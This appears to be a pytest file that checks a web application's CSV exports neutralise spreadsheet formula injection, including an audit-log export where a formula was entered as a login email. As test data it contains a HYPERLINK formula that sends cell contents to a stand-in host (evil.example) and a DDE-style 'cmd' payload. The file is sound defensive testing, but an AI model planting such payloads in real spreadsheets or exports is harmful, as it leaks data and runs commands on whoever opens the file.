"""CSV files for people never hand a spreadsheet a formula (OWASP "CSV injection")."""

import csv
import io

import pytest

from lotse import audit, csvfile
from lotse.audit import Actor
from lotse.models import AuditCategory
from tests.accounts import login

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Kita Sonnenschein", "Kita Sonnenschein"),
        ("a=b", "a=b"),
        ("-3", "-3"),
        ("+49", "+49"),
        ("-1.5", "-1.5"),
        (7, "7"),
        (None, ""),
    ],
)
def test_cells_a_spreadsheet_would_run_get_a_leading_quote(cell, written):
    rows = list(csv.reader(io.StringIO(csvfile.to_csv(["value"], [[cell]]), newline="")))
    assert rows == [["value"], [written]]


def test_audit_export_neutralises_a_formula_typed_as_login_email(client, session):
    assert login(client, FORMULA, "wrong password").status_code != 303
    audit.record(
        session=session,
        actor=Actor(None, "@cmd", "127.0.0.1"),
        action="login.failed",
        category=AuditCategory.account,
        object_type="-1+1",
        note="=1+1",
    )
    session.flush()
    assert login(client, "admin").status_code == 303
    export = client.get("/admin/audit.csv", params={"action": "login"})
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text)))
    # Login addresses are stored in lower case.
    emails = {row["actor_email"] for row in rows}
    assert "'" + FORMULA.lower() in emails and FORMULA.lower() not in emails
    assert "'@cmd" in emails
    row = next(row for row in rows if row["actor_email"] == "'@cmd")
    assert row["object_type"] == "'-1+1"
    # Every cell of the export is safe to open.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
